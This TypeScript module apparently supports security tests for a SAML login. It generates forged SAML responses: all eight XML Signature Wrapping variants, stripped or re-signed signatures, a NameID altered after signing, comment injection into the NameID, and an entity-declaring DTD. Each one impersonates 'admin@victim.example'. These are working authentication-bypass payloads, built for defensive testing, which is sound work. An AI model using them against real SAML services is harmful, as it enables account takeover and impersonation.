import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { testCredential } from './test-credentials';
import { signElement, toBase64, type TestResponse } from './test-idp';

export const ATTACKER_NAME_ID = 'admin@victim.example';

const SAML_NS = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP_NS = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/**
 * The eight XML Signature Wrapping variants of Somorovsky et al., "On Breaking SAML: Be Whoever
 * You Want to Be" (USENIX Security 2012), as SAML Raider implements them. Each keeps the original
 * signed element somewhere a careless verifier still finds it, and puts an evil copy naming the
 * attacker where a careless consumer reads. XSW1-2 need a signed Response, XSW3-8 a signed assertion.
 */
export function xsw(variant: XswVariant, signedResponseXml: string): TestResponse {
  return edit(signedResponseXml, (document) => XSW[variant](document));
}

const XSW: Record<XswVariant, (document: Document) => void> = {
  1(document) {
    const response = document.documentElement as Element;
    const original = response.cloneNode(true) as Element;
    setNameId(response, ATTACKER_NAME_ID);
    remove(first(original, DSIG_NS, 'Signature'));
    first(response, DSIG_NS, 'Signature').appendChild(original);
    response.setAttribute('ID', '_evil_response');
  },
  2(document) {
    const response = document.documentElement as Element;
    const original = response.cloneNode(true) as Element;
    setNameId(response, ATTACKER_NAME_ID);
    remove(first(original, DSIG_NS, 'Signature'));
    const signature = first(response, DSIG_NS, 'Signature');
    response.insertBefore(original, signature);
    response.setAttribute('ID', '_evil_response');
  },
  3(document) {
    const assertion = first(document, SAML_NS, 'Assertion');
    const evil = evilCopyWithoutSignature(assertion);
    assertion.parentNode?.insertBefore(evil, assertion);
  },
  4(document) {
    const assertion = first(document, SAML_NS, 'Assertion');
    const evil = evilCopyWithoutSignature(assertion);
    document.documentElement?.appendChild(evil);
    evil.appendChild(assertion);
  },
  5(document) {
    const evil = first(document, SAML_NS, 'Assertion');
    const original = evil.cloneNode(true) as Element;
    setNameId(evil, ATTACKER_NAME_ID);
    remove(first(original, DSIG_NS, 'Signature'));
    document.documentElement?.appendChild(original);
    evil.setAttribute('ID', '_evil_assertion');
  },
  6(document) {
    const evil = first(document, SAML_NS, 'Assertion');
    const original = evil.cloneNode(true) as Element;
    setNameId(evil, ATTACKER_NAME_ID);
    remove(first(original, DSIG_NS, 'Signature'));
    first(evil, DSIG_NS, 'Signature').appendChild(original);
    evil.setAttribute('ID', '_evil_assertion');
  },
  7(document) {
    const assertion = first(document, SAML_NS, 'Assertion');
    const extensions = document.createElementNS(SAMLP_NS, 'samlp:Extensions');
    assertion.parentNode?.insertBefore(extensions, assertion);
    const evil = assertion.cloneNode(true) as Element;
    setNameId(evil, ATTACKER_NAME_ID);
    remove(first(evil, DSIG_NS, 'Signature'));
    extensions.appendChild(evil);
  },
  8(document) {
    const evil = first(document, SAML_NS, 'Assertion');
    const signature = first(evil, DSIG_NS, 'Signature');
    const original = evil.cloneNode(true) as Element;
    setNameId(evil, ATTACKER_NAME_ID);
    remove(first(original, DSIG_NS, 'Signature'));
    const object = document.createElementNS(DSIG_NS, 'ds:Object');
    signature.appendChild(object);
    object.appendChild(original);
  },
};

/** Every Signature removed: the content is then the attacker's to write. */
export function stripSignatures(signedResponseXml: string): TestResponse {
  return edit(signedResponseXml, (document) => {
    for (const signature of Array.from(document.getElementsByTagNameNS(DSIG_NS, 'Signature'))) {
      remove(signature);
    }
  });
}

/** The NameID changed after signing. */
export function tamperNameId(signedResponseXml: string, nameId = ATTACKER_NAME_ID): TestResponse {
  return edit(signedResponseXml, (document) => setNameId(document.documentElement as Element, nameId));
}

/**
 * Splits the signed NameID's text with an empty comment after `prefix`, which exclusive c14n
 * ignores, so the signature stays valid: a consumer that reads only the first text node gets
 * `prefix`, one that reads the element's text gets the whole signed value.
 */
export function injectCommentInNameId(signedResponseXml: string, prefix: string): TestResponse {
  return edit(signedResponseXml, (document) => {
    const nameId = first(document, SAML_NS, 'NameID');
    const text = nameId.textContent ?? '';
    if (!text.startsWith(prefix)) {
      throw new Error(`the NameID ${text} does not start with ${prefix}`);
    }
    while (nameId.firstChild) {
      nameId.removeChild(nameId.firstChild);
    }
    nameId.appendChild(document.createTextNode(prefix));
    nameId.appendChild(document.createComment(''));
    nameId.appendChild(document.createTextNode(text.slice(prefix.length)));
  });
}

/** An unsigned copy of the assertion naming the attacker, added next to the signed one. */
export function addUnsignedAssertion(signedResponseXml: string, position: 'before' | 'after'): TestResponse {
  return edit(signedResponseXml, (document) => {
    const assertion = first(document, SAML_NS, 'Assertion');
    const evil = evilCopyWithoutSignature(assertion);
    assertion.parentNode?.insertBefore(evil, position === 'before' ? assertion : assertion.nextSibling);
  });
}

/**
 * The attacker names himself, then signs the assertion with his own key and puts his own
 * certificate in KeyInfo, for a verifier that trusts whatever key the message brings.
 */
export function resignWithAttackerKey(signedResponseXml: string): TestResponse {
  const unsigned = edit(signedResponseXml, (document) => {
    const assertion = first(document, SAML_NS, 'Assertion');
    remove(first(assertion, DSIG_NS, 'Signature'));
    setNameId(assertion, ATTACKER_NAME_ID);
  }).xml;
  return toBase64(signElement(unsigned, 'Assertion', { credential: testCredential('attacker') }));
}

/** A DTD declaring an entity, used in the NameID (XXE, entity expansion). */
export function withEntityDeclaration(responseXml: string): TestResponse {
  const withEntity = responseXml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&attacker;');
  return toBase64(`<!DOCTYPE samlp:Response [<!ENTITY attacker "${ATTACKER_NAME_ID}">]>\n${withEntity}`);
}

export function edit(xml: string, change: (document: Document) => void): TestResponse {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  change(document);
  return toBase64(new XMLSerializer().serializeToString(document));
}

export function first(scope: Document | Element, namespaceUri: string, localName: string): Element {
  const element = scope.getElementsByTagNameNS(namespaceUri, localName).item(0);
  if (element === null) {
    throw new Error(`no ${localName} to attack`);
  }
  return element;
}

function evilCopyWithoutSignature(assertion: Element): Element {
  const evil = assertion.cloneNode(true) as Element;
  setNameId(evil, ATTACKER_NAME_ID);
  remove(first(evil, DSIG_NS, 'Signature'));
  evil.setAttribute('ID', '_evil_assertion');
  return evil;
}

function setNameId(scope: Element, nameId: string): void {
  first(scope, SAML_NS, 'NameID').textContent = nameId;
}

function remove(element: Element): void {
  element.parentNode?.removeChild(element);
}
